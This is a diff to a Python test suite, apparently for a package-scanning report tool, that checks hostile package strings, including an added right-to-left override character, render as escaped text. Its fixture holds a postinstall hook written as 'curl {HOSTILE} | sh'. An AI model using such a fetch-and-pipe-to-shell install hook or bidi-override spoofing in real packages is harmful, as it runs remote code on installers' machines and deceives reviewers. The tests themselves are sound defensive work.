@@ -46,7 +46,9 @@ def hostile_report(HOSTILE: str = HOSTILE, HOSTILE_ATTRIBUTE: str = HOSTILE_ATTR
             globals={f"process.env.{HOSTILE_ATTRIBUTE}": (where,)},
             dynamic=(where,),
         ),
-        findings=(Finding(f"rule-{HOSTILE_ATTRIBUTE}", Severity.CRITICAL, f"message {HOSTILE}", (where,)),),
+        findings=(
+            Finding(f"rule-{HOSTILE_ATTRIBUTE}\u202e", Severity.CRITICAL, f"message {HOSTILE}", (where,)),
+        ),
         install_scripts={"postinstall": f"curl {HOSTILE} | sh"},
         skipped=(Skipped(f"reason {HOSTILE}", f"{HOSTILE}.min.js"),),
         paths=(f"app>{HOSTILE}",),
@@ -228,7 +230,7 @@ def test_hostile_strings_are_text_not_markup() -> None:
     # The filter data holds the name as the page shows it, and nothing that could end its element.
     (row,) = data_block(page)["rows"]
     assert row["label"] == neutralize(f"{HOSTILE}{HOSTILE_ATTRIBUTE}@1.0.0")
-    assert row["rules"] == [f"rule-{HOSTILE_ATTRIBUTE}"]
+    assert row["rules"] == [neutralize(f"rule-{HOSTILE_ATTRIBUTE}\u202e")]
     # Same markup as a package with plain names: hostile text added no element and no attribute.
     assert parsed.shape() == parse(plain).shape()
 
